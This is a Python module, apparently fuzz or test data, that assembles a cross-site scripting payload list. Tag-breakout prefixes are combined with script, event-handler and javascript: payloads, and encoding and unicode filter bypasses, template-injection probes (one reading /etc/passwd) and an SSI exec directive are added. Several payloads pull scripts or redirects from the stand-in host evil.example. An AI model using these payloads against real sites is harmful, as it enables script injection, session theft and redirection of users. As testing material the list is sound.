"""What people write into fields to make somebody's browser run it."""

from __future__ import annotations

from itertools import product
from typing import Final

CALL: Final = "alert(1)"
OPENERS: Final = ("", '">', "'>", "</title>", "</script>", "</textarea>", "--><!-- -->", "]]>", "</code></td>", '\\">')
ELEMENTS: Final = (
    "<script>{0}</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror={0}>",
    "<img src=//evil.example/x.png>",
    "<svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<iframe srcdoc='<script>parent.{0}</script>'>",
    "<a href=javascript:{0} autofocus onfocus={0}>x</a>",
    "<body onload={0}>",
    "<details open ontoggle={0}>x",
    "<input autofocus onfocus={0}>",
    "<video src=x onerror={0}>",
    "<math><mtext></p><style><img src=x onerror={0}></style>",
    "<form action=//evil.example><button id=main>x",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
)
BARE: Final = (
    "javascript:{0}", "data:text/html,<script>{0}</script>", "vbscript:{0}", "JaVaScRiPt:{0}", "java\tscript:{0}",
    "//evil.example/x", "https://evil.example/\"onmouseover={0}", "{{{{7*7}}}}", "{{% include '/etc/passwd' %}}",
    "${{{0}}}", "' onfocus={0} autofocus='", "\" onfocus={0} autofocus=\"", "` onfocus={0} `",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "&#60;script&#62;{0}&#60;/script&#62;", "%3Cscript%3E{0}%3C/script%3E",
    "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
    "\u202e<script>{0}</script>", "<\x00script>{0}</script>", "<scr\nipt>{0}</scr\nipt>", "\ufeff<script>{0}</script>",
    "<\u017fcript>{0}</\u017fcript>", "\uff1cscript\uff1e{0}\uff1c/script\uff1e",
    "+ADw-script+AD4-{0}+ADw-/script+AD4-", "<!--#exec cmd=\"x\"-->",
    "<?xml version='1.0'?><script>{0}</script>", "<![CDATA[<script>{0}</script>]]>", "constructor.constructor('{0}')()",
    "<noscript><p title=\"</noscript><img src=x onerror={0}>\">", "<template><script>{0}</script></template>",
)  # fmt: skip
PAYLOADS: Final = tuple(
    [opener + element.format(CALL) for opener, element in product(OPENERS, ELEMENTS)]
    + [bare.format(CALL) for bare in BARE]
)
